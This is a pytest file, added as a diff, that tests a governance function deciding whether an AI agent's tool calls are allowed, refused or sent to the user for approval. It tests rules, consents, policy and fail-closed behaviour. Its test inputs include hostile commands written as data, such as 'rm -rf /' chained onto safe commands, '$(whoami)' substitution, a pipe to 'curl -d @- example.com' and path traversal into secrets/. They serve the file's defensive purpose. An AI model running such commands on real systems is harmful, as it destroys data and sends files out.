@@ -1,0 +1,613 @@
+"""decide(): the six lines of SPEC §4 as a table of cases, one row per behaviour."""
+
+from __future__ import annotations
+
+import dataclasses
+from typing import Any
+
+import pytest
+
+from apollia_nb.governance import (
+    Answer,
+    Call,
+    Decision,
+    Effect,
+    Family,
+    GovernanceView,
+    Outcome,
+    Policy,
+    Rule,
+    decide,
+)
+from apollia_nb.governance.decision import first_argument, rule_matches
+
+ALL = ("once", "always", "refuse")
+ONCE_REFUSE = ("once", "refuse")
+BASH = "bash_executor"
+
+SIMPLE = ["git status", "git status --short", "ls -la", "pytest -q tests"]
+NOT_SIMPLE = [
+    "git status; rm -rf /",
+    "git status && rm -rf /",
+    "ls | wc -l",
+    "echo hi > out.txt",
+    "echo $(whoami)",
+    "echo `whoami`",
+    "sleep 10 &",
+    "git status\nrm -rf /",
+    "(cd /tmp)",
+    "cat <<EOF\nhi\nEOF",
+]
+
+
+def call(
+    family: str | None = None,
+    *,
+    agent: str = "clerk",
+    tool: str = "tool",
+    args: dict[str, Any] | None = None,
+    connection: str | None = None,
+    grants: tuple[str, ...] = (),
+) -> Call:
+    return Call(
+        agent=agent, tool=tool, family=family, arguments=args or {}, connection=connection,
+        run_grants=set(grants),
+    )
+
+
+def run(command: str, *, agent: str = "clerk", tool: str = BASH) -> Call:
+    return call("execute", agent=agent, tool=tool, args={"command": command})
+
+
+def view(**kw: Any) -> GovernanceView:
+    return GovernanceView(**kw)
+
+
+def check(d: Decision) -> Decision:
+    """What holds for every decision: words for a reason, answers only when asking."""
+    assert isinstance(d.reason, str) and any(c.isalpha() for c in d.reason), d
+    if d.outcome == "ask":
+        assert d.answers and set(d.answers) <= set(ALL) and "once" in d.answers and "refuse" in d.answers
+    else:
+        assert d.answers == ()
+    assert d.line in range(7)
+    assert (d.line == 0) <= (d.outcome == "refuse")
+    return d
+
+
+def expect(d: Decision, outcome: str, line: int, answers: tuple[str, ...] = ()) -> None:
+    check(d)
+    assert (d.outcome, d.line, d.answers) == (outcome, line, answers), d
+
+
+# --- the six lines, and line 0 ---------------------------------------------------------
+
+DEV_GIT = view(developer_mode=True, rules=[Rule(BASH, "allow", "git status")])
+CONSENTED = view(consents={("clerk", f) for f in Family})
+
+LINES = [
+    # line 1: organisation policy
+    ("1 policy refuses the tool", call("read", tool="web_fetch"),
+     view(policy=Policy(refuse_tools={"web_fetch"})), "refuse", 1, ()),
+    ("1 policy refuses the connection", call("read", tool="list_issues", connection="github"),
+     view(policy=Policy(refuse_connections={"github"})), "refuse", 1, ()),
+    ("1 policy refuses the family", call("send", tool="mail"),
+     view(policy=Policy(refuse_families={"send"})), "refuse", 1, ()),
+    ("1 policy beats a consent and a grant", call("send", tool="mail", grants=("send",)),
+     view(policy=Policy(refuse_families={"send"}), consents={("clerk", "send")}), "refuse", 1, ()),
+    ("1 policy beats reading", call("conversation", tool="say"),
+     view(policy=Policy(refuse_tools={"say"})), "refuse", 1, ()),
+    ("1 policy beats a deny rule", call("write"),
+     view(policy=Policy(refuse_tools={"tool"}), rules=[Rule("tool")]), "refuse", 1, ()),
+    ("1 policy beats an allow rule", run("git status"),
+     view(developer_mode=True, rules=[Rule(BASH, "allow", "git status")],
+          policy=Policy(refuse_families={"execute"})), "refuse", 1, ()),
+    ("1 policy refuses on an unreadable view", call("read", tool="web_fetch"),
+     view(readable=False, policy=Policy(refuse_tools={"web_fetch"})), "refuse", 1, ()),
+    # line 2: a fine deny rule
+    ("2 deny rule without prefix", call("write", tool="write_file", args={"path": "a.txt"}),
+     view(rules=[Rule("write_file", "deny")]), "refuse", 2, ()),
+    ("2 deny rule under a prefix", call("write", tool="write_file", args={"path": "secrets/key"}),
+     view(rules=[Rule("write_file", "deny", "secrets/")]), "refuse", 2, ()),
+    ("2 deny rule beats reading", call("read", tool="read_file", args={"path": "secrets/key"}),
+     view(rules=[Rule("read_file", "deny", "secrets/")]), "refuse", 2, ()),
+    ("2 deny rule on an unreadable view", call("read", tool="read_file"),
+     view(readable=False, rules=[Rule("read_file")]), "refuse", 2, ()),
+    ("2 deny rule on an unclassified tool", call(None, tool="mystery"),
+     view(rules=[Rule("mystery")]), "refuse", 2, ()),
+    # line 3: reading, the conversation, the agent's own memory
+    ("3 read", call("read"), view(), "allow", 3, ()),
+    ("3 conversation", call("conversation"), view(), "allow", 3, ()),
+    ("3 memory", call("memory"), view(), "allow", 3, ()),
+    ("3 read on an unreadable view", call("read"), view(readable=False), "allow", 3, ()),
+    ("3 memory on an unreadable view", call("memory"), view(readable=False), "allow", 3, ()),
+    # line 4: executing code
+    ("4 allow: developer mode, allow rule, simple command", run("git status --short"),
+     DEV_GIT, "allow", 4, ()),
+    ("4 ask with always: developer mode, simple, no rule", run("ls -la"),
+     view(developer_mode=True), "ask", 4, ALL),
+    ("4 ask with always: developer mode, simple, rule for another prefix", run("ls -la"),
+     DEV_GIT, "ask", 4, ALL),
+    ("4 ask once/refuse: developer mode off, rule matches", run("git status"),
+     view(rules=[Rule(BASH, "allow", "git status")]), "ask", 4, ONCE_REFUSE),
+    ("4 ask once/refuse: developer mode, rule prefix, chained", run("git status; rm -rf /"),
+     DEV_GIT, "ask", 4, ONCE_REFUSE),
+    ("4 ask once/refuse: developer mode, no argument", call("execute", tool=BASH),
+     view(developer_mode=True), "ask", 4, ONCE_REFUSE),
+    # line 5: profile asks; consents and run grants allow the rest
+    ("5 profile asks every time", call("profile"), view(), "ask", 5, ONCE_REFUSE),
+    ("5 profile asks despite consent and grant", call("profile", grants=("profile",)),
+     view(consents={("clerk", "profile")}), "ask", 5, ONCE_REFUSE),
+    ("5 standing consent for write", call("write"), view(consents={("clerk", "write")}), "allow", 5, ()),
+    ("5 standing consent for send", call("send"), view(consents={("clerk", "send")}), "allow", 5, ()),
+    ("5 standing consent for read_personal", call("read_personal"),
+     view(consents={("clerk", "read_personal")}), "allow", 5, ()),
+    ("5 run grant for write", call("write", grants=("write",)), view(), "allow", 5, ()),
+    # line 6: anything left asks
+    ("6 write without consent", call("write"), view(), "ask", 6, ALL),
+    ("6 consent for another family", call("write"), view(consents={("clerk", "send")}), "ask", 6, ALL),
+    ("6 consent of another agent", call("write"), view(consents={("other", "write")}), "ask", 6, ALL),
+    ("6 grant for another family", call("send", grants=("write",)), view(), "ask", 6, ALL),
+    ("6 unclassified: once/refuse only", call(None), view(), "ask", 6, ONCE_REFUSE),
+    ("6 unclassified despite consents", call(None), CONSENTED, "ask", 6, ONCE_REFUSE),
+    # line 0: fail closed
+    ("0 write with consent, unreadable", call("write"),
+     view(readable=False, consents={("clerk", "write")}), "refuse", 0, ()),
+    ("0 send with run grant, unreadable", call("send", grants=("send",)),
+     view(readable=False), "refuse", 0, ()),
+    ("0 execute allowed by rule, unreadable", run("git status"),
+     view(readable=False, developer_mode=True, rules=[Rule(BASH, "allow", "git status")]), "refuse", 0, ()),
+    ("0 read_personal, unreadable", call("read_personal"), view(readable=False), "refuse", 0, ()),
+    ("0 profile, unreadable", call("profile"), view(readable=False), "refuse", 0, ()),
+    ("0 unclassified, unreadable", call(None), view(readable=False), "refuse", 0, ()),
+]
+
+
+@pytest.mark.parametrize(("c", "v", "outcome", "line", "answers"), [r[1:] for r in LINES], ids=[r[0] for r in LINES])
+def test_lines(c: Call, v: GovernanceView, outcome: str, line: int, answers: tuple[str, ...]) -> None:
+    expect(decide(c, v), outcome, line, answers)
+
+
+def test_fail_closed_reason_says_why() -> None:
+    d = decide(call("write"), view(readable=False, unreadable_reason="policy signature does not verify"))
+    assert d.line == 0 and "policy signature does not verify" in d.reason
+    assert "fail closed" in decide(call("write"), view(readable=False)).reason
+
+
+# --- every family ----------------------------------------------------------------------
+
+EMPTY_VIEW = [
+    ("read", "allow", 3, ()),
+    ("read_personal", "ask", 6, ALL),
+    ("write", "ask", 6, ALL),
+    ("send", "ask", 6, ALL),
+    ("execute", "ask", 4, ONCE_REFUSE),
+    ("conversation", "allow", 3, ()),
+    ("memory", "allow", 3, ()),
+    ("profile", "ask", 5, ONCE_REFUSE),
+    (None, "ask", 6, ONCE_REFUSE),
+]
+
+# Consents and grants for every family (execute and profile included) change only lines 5.
+EVERYTHING_CONSENTED = [
+    ("read", "allow", 3, ()),
+    ("read_personal", "allow", 5, ()),
+    ("write", "allow", 5, ()),
+    ("send", "allow", 5, ()),
+    ("execute", "ask", 4, ONCE_REFUSE),
+    ("conversation", "allow", 3, ()),
+    ("memory", "allow", 3, ()),
+    ("profile", "ask", 5, ONCE_REFUSE),
+    (None, "ask", 6, ONCE_REFUSE),
+]
+
+
+def test_the_families_are_the_specs() -> None:
+    assert {f.value for f in Family} == {r[0] for r in EMPTY_VIEW} - {None}
+
+
+@pytest.mark.parametrize(("family", "outcome", "line", "answers"), EMPTY_VIEW, ids=lambda v: str(v))
+def test_every_family_on_an_empty_view(family: str | None, outcome: str, line: int, answers: tuple[str, ...]) -> None:
+    expect(decide(call(family, args={"command": "ls -la"}), view()), outcome, line, answers)
+
+
+@pytest.mark.parametrize(("family", "outcome", "line", "answers"), EVERYTHING_CONSENTED, ids=lambda v: str(v))
+@pytest.mark.parametrize("how", ["consent", "grant"])
+def test_every_family_with_every_consent_or_grant(
+    how: str, family: str | None, outcome: str, line: int, answers: tuple[str, ...]
+) -> None:
+    families = [f.value for f in Family]
+    if how == "consent":
+        c, v = call(family, args={"command": "ls -la"}), CONSENTED
+    else:
+        c, v = call(family, args={"command": "ls -la"}, grants=tuple(families)), view()
+    expect(decide(c, v), outcome, line, answers)
+
+
+# --- scope: one agent or every agent ----------------------------------------------------
+
+SCOPE = [
+    ("deny for a, call by a", Rule("write_file", agent="a"), "a", "write", "refuse", 2),
+    ("deny for a, call by b", Rule("write_file", agent="a"), "b", "write", "ask", 6),
+    ("deny for *, call by a", Rule("write_file", agent="*"), "a", "write", "refuse", 2),
+    ("deny for *, call by b", Rule("write_file", agent="*"), "b", "write", "refuse", 2),
+    ("deny for a, read by b", Rule("write_file", agent="a"), "b", "read", "allow", 3),
+    ("allow for a, run by a", Rule("write_file", "allow", "git status", agent="a"), "a", "execute", "allow", 4),
+    ("allow for a, run by b", Rule("write_file", "allow", "git status", agent="a"), "b", "execute", "ask", 4),
+    ("allow for *, run by b", Rule("write_file", "allow", "git status", agent="*"), "b", "execute", "allow", 4),
+]
+
+
+@pytest.mark.parametrize(("rule", "agent", "family", "outcome", "line"), [r[1:] for r in SCOPE], ids=[r[0] for r in SCOPE])
+def test_rule_scope(rule: Rule, agent: str, family: str, outcome: str, line: int) -> None:
+    c = call(family, agent=agent, tool="write_file", args={"x": "git status"})
+    d = check(decide(c, view(rules=[rule], developer_mode=True)))
+    assert (d.outcome, d.line) == (outcome, line)
+
+
+def test_a_rule_for_an_agent_named_star_is_the_every_agent_rule() -> None:
+    assert decide(call("write", agent="*"), view(rules=[Rule("tool", agent="*")])).line == 2
+    assert decide(call("write", agent="*"), view(rules=[Rule("tool", agent="a")])).line == 6
+
+
+def test_rules_name_exactly_one_tool() -> None:
+    v = view(rules=[Rule("write_file")])
+    assert decide(call("write", tool="write_file2"), v).line == 6
+    assert decide(call("write", tool="Write_file"), v).line == 6
+
+
+# --- deny before allow ------------------------------------------------------------------
+
+DENY_FIRST = [
+    ("deny beats allow rule", run("git push origin"),
+     view(developer_mode=True, rules=[Rule(BASH, "allow", "git push"), Rule(BASH, "deny", "git push")])),
+    ("deny listed after allow still wins", run("git push"),
+     view(developer_mode=True, rules=[Rule(BASH, "allow", "git"), Rule(BASH, "deny", "git push", agent="clerk")])),
+    ("deny beats consent", call("write", tool="write_file", args={"path": "x"}),
+     view(consents={("clerk", "write")}, rules=[Rule("write_file")])),
+    ("deny beats run grant", call("send", tool="mail", args={"to": "x"}, grants=("send",)),
+     view(rules=[Rule("mail", prefix="x")])),
+    ("agent deny beats every-agent allow", run("git status", agent="a"),
+     view(developer_mode=True, rules=[Rule(BASH, "allow", "git status"), Rule(BASH, "deny", "git", agent="a")])),
+]
+
+
+@pytest.mark.parametrize(("c", "v"), [r[1:] for r in DENY_FIRST], ids=[r[0] for r in DENY_FIRST])
+def test_deny_comes_before_anything_that_allows(c: Call, v: GovernanceView) -> None:
+    expect(decide(c, v), "refuse", 2)
+
+
+def test_the_first_matching_deny_rule_in_view_order_is_named() -> None:
+    rules = [
+        Rule("write_file", prefix="notes/", id="r1"),
+        Rule("write_file", prefix="secrets/", agent="clerk", id="r2"),
+        Rule("write_file", prefix="secrets/k", id="r3"),
+        Rule("write_file", prefix="secret", id="r4"),
+    ]
+    d = decide(call("write", tool="write_file", args={"path": "secrets/key"}), view(rules=rules))
+    assert (d.outcome, d.line, d.rule_id) == ("refuse", 2, "r2")
+    assert "'secrets/'" in d.reason and "agent 'clerk'" in d.reason
+    d = decide(call("write", agent="b", tool="write_file", args={"path": "secrets/key"}), view(rules=rules))
+    assert d.rule_id == "r3" and "every agent" in d.reason
+
+
+def test_the_first_matching_allow_rule_in_view_order_is_named() -> None:
+    rules = [
+        Rule(BASH, "allow", "git log", id="r1"),
+        Rule(BASH, "allow", "git status --short", id="r2"),
+        Rule(BASH, "allow", "git status", agent="clerk", id="r3"),
+        Rule(BASH, "allow", "git", id="r4"),
+    ]
+    d = decide(run("git status --short"), view(developer_mode=True, rules=rules))
+    assert (d.outcome, d.line, d.rule_id) == ("allow", 4, "r2")
+    assert "'git status --short'" in d.reason
+
+
+# --- policy ---------------------------------------------------------------------------
+
+POLICY = [
+    ("tool", call("read", tool="shell"), Policy(refuse_tools={"shell"}), 1),
+    ("other tool", call("read", tool="read_file"), Policy(refuse_tools={"shell"}), 3),
+    ("connection: an MCP server", call("read", tool="list_issues", connection="github"),
+     Policy(refuse_connections={"github"}), 1),
+    ("connection: a host", call("write", tool="crm_update", connection="crm.example.com"),
+     Policy(refuse_connections={"crm.example.com"}), 1),
+    ("other connection", call("read", tool="list_issues", connection="gitlab"),
+     Policy(refuse_connections={"github"}), 3),
+    ("no connection", call("read", tool="list_issues"), Policy(refuse_connections={"github"}), 3),
+    ("family", call("write"), Policy(refuse_families={"write"}), 1),
+    ("family as enum", call("write"), Policy(refuse_families={Family.WRITE}), 1),
+    ("other family", call("read"), Policy(refuse_families={"write"}), 3),
+    ("unclassified is no family", call(None), Policy(refuse_families=set(Family)), 6),
+    ("empty policy", call("write"), Policy(), 6),
+]
+
+
+@pytest.mark.parametrize(("c", "policy", "line"), [r[1:] for r in POLICY], ids=[r[0] for r in POLICY])
+def test_policy(c: Call, policy: Policy, line: int) -> None:
+    d = check(decide(c, view(policy=policy)))
+    assert d.line == line
+    if line == 1:
+        assert d.outcome == "refuse" and "organisation policy" in d.reason
+
+
+def test_no_policy_refuses_nothing() -> None:
+    assert decide(call("send", tool="mail", connection="x"), view(policy=None)).line == 6
+
+
+# --- always -----------------------------------------------------------------------------
+
+ALWAYS = [
+    # (id, call, developer mode, always on offer)
+    ("execute, dev, simple", run("ls -la"), True, True),
+    ("execute, dev, chained", run("ls -la; rm -rf /"), True, False),
+    ("execute, dev, pipe", run("ls | wc -l"), True, False),
+    ("execute, no dev, simple", run("ls -la"), False, False),
+    ("execute, dev, no command", call("execute", tool=BASH), True, False),
+    ("execute, dev, integer command", call("execute", tool=BASH, args={"command": 5}), True, False),
+    ("execute, dev, argv list", call("execute", tool=BASH, args={"argv": ["ls", "-la"]}), True, False),
+    ("unclassified, dev", call(None, args={"command": "ls -la"}), True, False),
+    ("unclassified, no dev", call(None), False, False),
+    ("profile, dev", call("profile"), True, False),
+    ("profile, no dev", call("profile"), False, False),
+    ("write", call("write"), False, True),
+    ("send", call("send"), True, True),
+    ("read_personal", call("read_personal"), False, True),
+]
+
+
+@pytest.mark.parametrize(("c", "dev", "offered"), [r[1:] for r in ALWAYS], ids=[r[0] for r in ALWAYS])
+def test_always_is_offered_only_where_the_spec_says(c: Call, dev: bool, offered: bool) -> None:
+    d = check(decide(c, view(developer_mode=dev)))
+    assert d.outcome == "ask"
+    assert ("always" in d.answers) is offered
+    if offered:
+        assert d.line == 4 or (d.line == 6 and c.family is not None)
+
+
+@pytest.mark.parametrize("command", NOT_SIMPLE, ids=repr)
+def test_no_always_for_commands_that_are_not_simple(command: str) -> None:
+    d = decide(run(command), view(developer_mode=True, rules=[Rule(BASH, "allow", command.split()[0])]))
+    expect(d, "ask", 4, ONCE_REFUSE)
+
+
+# --- execute is never allowed by a consent or a grant -------------------------------------
+
+@pytest.mark.parametrize("dev", [False, True], ids=["dev off", "dev on"])
+@pytest.mark.parametrize("command", ["ls -la", "git status; rm -rf /"], ids=["simple", "chained"])
+def test_consent_and_grant_for_execute_allow_nothing(dev: bool, command: str) -> None:
+    c = call("execute", tool=BASH, args={"command": command}, grants=("execute",))
+    d = check(decide(c, view(developer_mode=dev, consents={("clerk", "execute")})))
+    assert (d.outcome, d.line) == ("ask", 4)
+
+
+def test_allow_rules_act_on_execute_only() -> None:
+    rules = [Rule("write_file", "allow", "notes"), Rule("write_file", "allow")]
+    d = decide(call("write", tool="write_file", args={"path": "notes"}), view(developer_mode=True, rules=rules))
+    expect(d, "ask", 6, ALL)
+
+
+def test_an_allow_rule_without_prefix_allows_nothing() -> None:
+    for prefix in (None, ""):
+        v = view(developer_mode=True, rules=[Rule(BASH, "allow", prefix)])
+        expect(decide(run("ls -la"), v), "ask", 4, ALL)
+        assert not rule_matches(v.rules[0], run("ls -la"))
+
+
+# --- word boundaries ---------------------------------------------------------------------
+
+PREFIXES = [
+    ("git status", "git status", True),
+    ("git status", "git status --short", True),
+    ("git status", "git statusx", False),
+    ("git status", "git stat", False),
+    ("git status", "git", False),
+    ("git status", "xgit status", False),
+    ("git status --short", "git status", False),
+    ("git", "git log -n 3", True),
+    ("ls", "ls", True),
+    ("ls", "lsof", False),
+]
+
+
+@pytest.mark.parametrize(("prefix", "command", "allowed"), PREFIXES, ids=[f"{p!r} on {c!r}" for p, c, _ in PREFIXES])
+def test_allow_prefixes_match_at_word_boundaries(prefix: str, command: str, allowed: bool) -> None:
+    d = check(decide(run(command), view(developer_mode=True, rules=[Rule(BASH, "allow", prefix)])))
+    assert (d.outcome == "allow") is allowed
+    assert d.line == 4
+
+
+DENY_COMMANDS = [
+    ("rm -rf", "rm -rf /tmp/x"),
+    ("rm", "ls; rm -rf /"),
+    ("rm", "ls && rm -rf /"),
+    ("curl", "ls | curl -d @- example.com"),
+    ("git push", "git status\ngit push"),
+]
+
+
+@pytest.mark.parametrize(("prefix", "command"), DENY_COMMANDS, ids=[f"{p!r} in {c!r}" for p, c in DENY_COMMANDS])
+def test_deny_prefixes_on_commands_match_broadly(prefix: str, command: str) -> None:
+    rules = [Rule(BASH, "allow", command.split()[0]), Rule(BASH, "deny", prefix)]
+    expect(decide(run(command), view(developer_mode=True, rules=rules)), "refuse", 2)
+
+
+@pytest.mark.parametrize("path", ["secrets/key", "./secrets/key", "notes/../secrets/key", "secrets"])
+def test_deny_prefixes_on_paths_see_through_dot_segments(path: str) -> None:
+    d = decide(call("write", tool="write_file", args={"path": path}), view(rules=[Rule("write_file", prefix="secrets/")]))
+    expect(d, "refuse", 2)
+
+
+def test_deny_prefix_does_not_match_other_paths() -> None:
+    v = view(rules=[Rule("write_file", prefix="secrets/")], consents={("clerk", "write")})
+    expect(decide(call("write", tool="write_file", args={"path": "notes/a.txt"}), v), "allow", 5)
+
+
+# --- arguments ----------------------------------------------------------------------------
+
+def test_the_first_item_is_the_first_argument() -> None:
+    v = view(rules=[Rule("write_file", prefix="secrets/")], consents={("clerk", "write")})
+    first = call("write", tool="write_file", args={"path": "secrets/k", "text": "notes/"})
+    second = call("write", tool="write_file", args={"text": "notes/", "path": "secrets/k"})
+    assert decide(first, v).line == 2
+    assert decide(second, v).line == 5
+    assert first_argument(first) == "secrets/k"
+
+
+ODD_ARGUMENTS = [
+    # (id, arguments, deny prefix, refused)
+    ("no arguments, prefixed deny", {}, "x", False),
+    ("no arguments, deny without prefix", {}, None, True),
+    ("first argument None", {"path": None}, "x", False),
+    ("integer", {"n": 42}, "42", True),
+    ("integer, other prefix", {"n": 42}, "5", False),
+    ("float", {"n": 1.5}, "1.5", True),
+    ("bool", {"b": True}, "True", True),
+    ("nested dict", {"a": {"b": {"c": "secrets"}}}, "{'b'", True),
+    ("empty dict", {"a": {}}, "{}", True),
+    ("argv list", {"argv": ["rm", "-rf", "/"]}, "rm -rf", True),
+    ("argv list, other prefix", {"argv": ["ls"]}, "rm", False),
+    ("bytes", {"data": b"secrets/k"}, "secrets/k", True),
+    ("empty string", {"path": ""}, "x", False),
+]
+
+
+@pytest.mark.parametrize(("args", "prefix", "refused"), [r[1:] for r in ODD_ARGUMENTS], ids=[r[0] for r in ODD_ARGUMENTS])
+@pytest.mark.parametrize("family", ["write", "execute", None], ids=str)
+def test_odd_first_arguments_are_matched_broadly(args: dict[str, Any], prefix: str | None, refused: bool, family: str | None) -> None:
+    d = check(decide(call(family, args=args), view(rules=[Rule("tool", prefix=prefix)])))
+    assert (d.outcome == "refuse" and d.line == 2) is refused, d
+
+
+class Unprintable:
+    def __str__(self) -> str:
+        raise RuntimeError("no text")
+
+    __repr__ = __str__
+
+
+@pytest.mark.parametrize("family", ["write", "execute", None], ids=str)
+def test_an_argument_without_text_matches_every_deny_rule(family: str | None) -> None:
+    c = call(family, args={"x": Unprintable()})
+    expect(decide(c, view(rules=[Rule("tool", prefix="anything")])), "refuse", 2)
+    assert first_argument(c) is None
+    assert decide(c, view(consents={("clerk", "write")})).outcome in ("ask", "allow")
+
+
+@pytest.mark.parametrize(
+    "args", [{"command": 5}, {"command": ["git", "status"]}, {"command": {"git": "status"}}, {"command": None}, {}],
+    ids=["int", "list", "dict", "None", "empty"],
+)
+def test_only_a_string_is_a_command(args: dict[str, Any]) -> None:
+    rules = [Rule(BASH, "allow", "5"), Rule(BASH, "allow", "git status"), Rule(BASH, "allow", "git")]
+    d = decide(call("execute", tool=BASH, args=args), view(developer_mode=True, rules=rules))
+    expect(d, "ask", 4, ONCE_REFUSE)
+
+
+def test_an_empty_prefix_is_no_prefix() -> None:
+    assert Rule("t", prefix="").prefix is None
+    expect(decide(call("read", tool="tool", args={"p": "anything"}), view(rules=[Rule("tool", prefix="")])), "refuse", 2)
+
+
+# --- construction: types and strings --------------------------------------------------------
+
+@pytest.mark.parametrize("family", ["READ", "Read", "shell", "", "execute "], ids=repr)
+def test_an_unknown_family_is_refused_at_construction(family: str) -> None:
+    with pytest.raises(ValueError):
+        Call(agent="a", tool="t", family=family)
+    with pytest.raises(ValueError):
+        Call(agent="a", tool="t", run_grants={family})
+    with pytest.raises(ValueError):
+        GovernanceView(consents={("a", family)})
+    with pytest.raises(ValueError):
+        Policy(refuse_families={family})
+
+
+@pytest.mark.parametrize(
+    "build",
+    [
+        lambda: Call(agent=None, tool="t"),  # type: ignore[arg-type]
+        lambda: Call(agent="a", tool=3),  # type: ignore[arg-type]
+        lambda: Call(agent="a", tool="t", arguments=["ls"]),  # type: ignore[arg-type]
+        lambda: Call(agent="a", tool="t", connection=7),  # type: ignore[arg-type]
+        lambda: Rule(tool="t", agent=None),  # type: ignore[arg-type]
+        lambda: Rule(tool="t", prefix=3),  # type: ignore[arg-type]
+        lambda: GovernanceView(rules=[{"tool": "t"}]),  # type: ignore[list-item]
+        lambda: GovernanceView(policy={"refuse_tools": ["t"]}),  # type: ignore[arg-type]
+    ],
+    ids=["agent None", "tool int", "arguments list", "connection int", "rule agent None", "prefix int",
+         "rule as dict", "policy as dict"],
+)
+def test_wrong_types_are_refused_at_construction(build: Any) -> None:
+    with pytest.raises(TypeError):
+        build()
+
+
+def test_rule_effect_must_be_allow_or_deny() -> None:
+    with pytest.raises(ValueError):
+        Rule(tool="t", effect="permit")
+
+
+def test_defaults_and_none() -> None:
+    c = Call(agent="a", tool="t", arguments=None, run_grants=None)  # type: ignore[arg-type]
+    assert (c.family, c.arguments, c.connection, c.run_grants) == (None, {}, None, frozenset())
+    v = GovernanceView(rules=None, consents=None)  # type: ignore[arg-type]
+    assert (v.rules, v.consents, v.developer_mode, v.policy, v.readable) == ((), frozenset(), False, None, True)
+    r = Rule(tool="t")
+    assert (r.effect, r.prefix, r.agent, r.id) == ("deny", None, "*", None)
+
+
+def test_strings_and_enums_compare_equal() -> None:
+    d = decide(call("read"), view())
+    assert d.outcome == "allow" and d.outcome is Outcome.ALLOW and str(d.outcome) == "allow"
+    a = decide(call("write"), view())
+    assert a.answers == ("once", "always", "refuse") == (Answer.ONCE, Answer.ALWAYS, Answer.REFUSE)
+    assert Family.EXECUTE == "execute" and Effect.DENY == "deny" and str(Family.READ_PERSONAL) == "read_personal"
+    assert Call(agent="a", tool="t", family="write").family is Family.WRITE
+    assert Rule(tool="t", effect="allow").effect is Effect.ALLOW
+    assert GovernanceView(consents={("a", "write")}).consents == {("a", Family.WRITE)}
+    assert GovernanceView(consents=[["a", "write"]]).consents == {("a", "write")}  # as read from JSON
+    assert Policy(refuse_families={"send"}).refuse_families == {Family.SEND}
+
+
+def test_the_public_face() -> None:
+    names = lambda cls: [f.name for f in dataclasses.fields(cls)]  # noqa: E731
+    assert names(Call) == ["agent", "tool", "family", "arguments", "connection", "run_grants"]
+    assert names(Rule) == ["tool", "effect", "prefix", "agent", "id"]  # no session, no project
+    assert names(Policy) == ["refuse_tools", "refuse_connections", "refuse_families"]
+    assert names(Decision)[:4] == ["outcome", "line", "answers", "reason"]
+    assert [f.name for f in dataclasses.fields(GovernanceView) if f.init] == [
+        "rules", "consents", "developer_mode", "policy", "readable", "unreadable_reason",
+    ]
+
+
+def test_the_spec_example() -> None:
+    view_ = GovernanceView(
+        rules=[Rule(tool="bash_executor", prefix="git status", effect="allow", agent="*")],
+        consents={("clerk", "write")},
+        developer_mode=True,
+        policy=Policy(refuse_families={"send"}),
+        readable=True,
+    )
+    c = Call(agent="clerk", tool="bash_executor", family="execute",
+             arguments={"command": "git status"}, connection=None, run_grants=set())
+    d = decide(c, view_)
+    assert (d.outcome, d.line, d.answers) == ("allow", 4, ())
+    assert d.reason
+
+
+def test_views_compare_by_content_not_by_index() -> None:
+    a = GovernanceView(rules=[Rule("t", prefix="x")], consents={("a", "write")})
+    b = GovernanceView(rules=(Rule("t", prefix="x"),), consents=frozenset({("a", Family.WRITE)}))
+    assert a == b and hash(a) == hash(b)
+    assert a.rules_for("t") == (Rule("t", prefix="x"),) and a.rules_for("u") == ()
+    assert "_index" not in repr(a)
+
+
+def test_decide_reads_its_inputs_and_changes_nothing() -> None:
+    args = {"command": "git status"}
+    v = GovernanceView(rules=[Rule(BASH, "allow", "git status")], developer_mode=True)
+    c = call("execute", tool=BASH, args=args)
+    first = decide(c, v)
+    assert all(decide(c, v) == first for _ in range(3))
+    assert args == {"command": "git status"} and v == GovernanceView(rules=[Rule(BASH, "allow", "git status")], developer_mode=True)
